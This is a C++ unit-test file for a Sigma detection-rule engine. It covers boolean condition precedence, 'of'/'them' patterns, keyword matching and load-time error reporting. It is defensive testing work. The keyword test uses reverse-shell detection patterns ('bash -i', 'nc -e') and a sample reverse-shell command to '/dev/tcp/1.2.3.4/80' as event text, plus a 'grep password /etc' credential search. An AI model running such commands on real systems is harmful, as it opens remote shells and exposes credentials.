// Conditions, keyword searches, and what loading refuses (file:line and reason).
#include "sigma_support.hpp"

namespace {

using sigma::test::event_of;
using sigma::test::hits;
using sigma::test::load_issue;
using sigma::test::rule_text;

const std::string kSearches =
    "    sel_a:\n        A: 1\n    sel_b:\n        B: 1\n    filter_c:\n        C: 1\n"
    "    _hidden:\n        D: 1\n";

bool cond(const std::string& condition, std::vector<std::pair<std::string, std::string>> f) {
  return hits(kSearches + "    condition: " + condition + "\n", event_of(std::move(f)));
}

TEST(SigmaConditions, BooleanOperatorsAndPrecedence) {
  EXPECT_TRUE(cond("sel_a and not filter_c", {{"A", "1"}}));
  EXPECT_FALSE(cond("sel_a and not filter_c", {{"A", "1"}, {"C", "1"}}));
  // and binds tighter than or: A or (B and C)
  EXPECT_TRUE(cond("sel_a or sel_b and filter_c", {{"A", "1"}}));
  EXPECT_FALSE(cond("(sel_a or sel_b) and filter_c", {{"A", "1"}}));
  EXPECT_TRUE(cond("not (sel_a or sel_b)", {{"C", "1"}}));
  EXPECT_TRUE(cond("not not sel_a", {{"A", "1"}}));
}

TEST(SigmaConditions, OfPatternsAndThem) {
  EXPECT_TRUE(cond("1 of sel_*", {{"B", "1"}}));
  EXPECT_FALSE(cond("all of sel_*", {{"B", "1"}}));
  EXPECT_TRUE(cond("all of sel_*", {{"A", "1"}, {"B", "1"}}));
  EXPECT_TRUE(cond("1 of them", {{"C", "1"}}));
  EXPECT_FALSE(cond("1 of them", {{"D", "1"}}));  // _hidden is not part of them
  EXPECT_TRUE(cond("all of them", {{"A", "1"}, {"B", "1"}, {"C", "1"}}));
  EXPECT_TRUE(cond("2 of them", {{"A", "1"}, {"C", "1"}}));
  EXPECT_TRUE(cond("sel_a and not 1 of filter_*", {{"A", "1"}}));
}

TEST(SigmaConditions, ConditionListIsOr) {
  const std::string d = kSearches + "    condition:\n        - sel_a\n        - sel_b\n";
  EXPECT_TRUE(hits(d, event_of({{"B", "1"}})));
  EXPECT_FALSE(hits(d, event_of({{"C", "1"}})));
}

TEST(SigmaConditions, ListOfMapsIsOrOfAnds) {
  const std::string d = "    s:\n        - {A: 1, B: 2}\n        - {C: 3}\n    condition: s\n";
  EXPECT_TRUE(hits(d, event_of({{"A", "1"}, {"B", "2"}})));
  EXPECT_TRUE(hits(d, event_of({{"C", "3"}})));
  EXPECT_FALSE(hits(d, event_of({{"A", "1"}, {"B", "3"}})));
}

TEST(SigmaConditions, KeywordsSearchTheRawTextCaseInsensitively) {
  const std::string any =
      "    keywords:\n        - 'Bash -i'\n        - 'nc -e'\n"
      "    condition: keywords\n";
  EXPECT_TRUE(hits(any, event_of({{"message", "x"}}, "host: bash -i >& /dev/tcp/1.2.3.4/80")));
  EXPECT_FALSE(hits(any, event_of({{"message", "bash -i"}}, "host: bash -c id")));
  const std::string all =
      "    keywords:\n        '|all':\n            - grep\n"
      "            - password\n    condition: keywords\n";
  EXPECT_TRUE(hits(all, event_of({}, "grep -r PASSWORD /etc")));
  EXPECT_FALSE(hits(all, event_of({}, "grep -r secret /etc")));
}

TEST(SigmaLoad, UnsupportedFeaturesAreReportedWithFileAndLine) {
  EXPECT_EQ(load_issue(rule_text("    s:\n        F|expand: '%Servers%'\n    condition: s\n")),
            "bad.yml:8: 'F|expand': placeholders (modifier 'expand') are not supported");
  EXPECT_EQ(load_issue(rule_text("    s:\n        F|frobnicate: x\n    condition: s\n")),
            "bad.yml:8: 'F|frobnicate': unknown modifier 'frobnicate'");
  EXPECT_EQ(load_issue(rule_text("    s:\n        F: x\n    condition: s | count() > 5\n")),
            "bad.yml:9: condition: aggregation expressions ('|') are not supported");
  EXPECT_EQ(load_issue(rule_text("    s:\n        F: x\n    condition: s and nope\n")),
            "bad.yml:9: condition: unknown search identifier 'nope'");
  EXPECT_EQ(load_issue(rule_text("    s:\n        F|re: '(?<=a)b'\n    condition: s\n"))
                .rfind("bad.yml:8: 'F|re': regular expression '(?<=a)b' not supported", 0),
            0u);
  EXPECT_EQ(load_issue(rule_text("    s:\n        F: x\n    timeframe: 5m\n    condition: s\n")),
            "bad.yml:9: timeframe (aggregation) is not supported");
  EXPECT_EQ(load_issue("title: c\ncorrelation:\n  type: event_count\n"),
            "bad.yml:3: correlation rules are not supported");
  EXPECT_EQ(load_issue("title: t\nlogsource: {product: linux}\n"),
            "bad.yml:1: rule has no detection");
}

TEST(SigmaLoad, MalformedYamlGivesTheLine) {
  const std::string text = "title: t\nlogsource:\n  product: linux\ndetection:\n  s: [a, b\n";
  EXPECT_EQ(load_issue(text).rfind("bad.yml:6: YAML: ", 0), 0u) << load_issue(text);
}

TEST(SigmaLoad, ManyDocumentsPerFileAndMetadata) {
  const std::string text =
      "title: one\nid: 1\nstatus: test\nlevel: low\ntags: [attack.t1059]\n"
      "logsource: {product: linux, service: auditd}\n"
      "detection: {s: {a: 1}, condition: s}\n---\n" +
      rule_text("    s:\n        a: 2\n    condition: s\n", "two");
  const sigma::LoadResult r = sigma::load_rules_from_text(text, "multi.yml");
  ASSERT_TRUE(r.issues.empty());
  ASSERT_EQ(r.rules.size(), 2u);
  EXPECT_EQ(r.rules[0].status, "test");
  EXPECT_EQ(r.rules[0].tags, std::vector<std::string>{"attack.t1059"});
  EXPECT_EQ(r.rules[0].logsource.service, "auditd");
  EXPECT_EQ(r.rules[1].title, "two");
  EXPECT_EQ(r.rules[1].line, 9);
}

}  // namespace
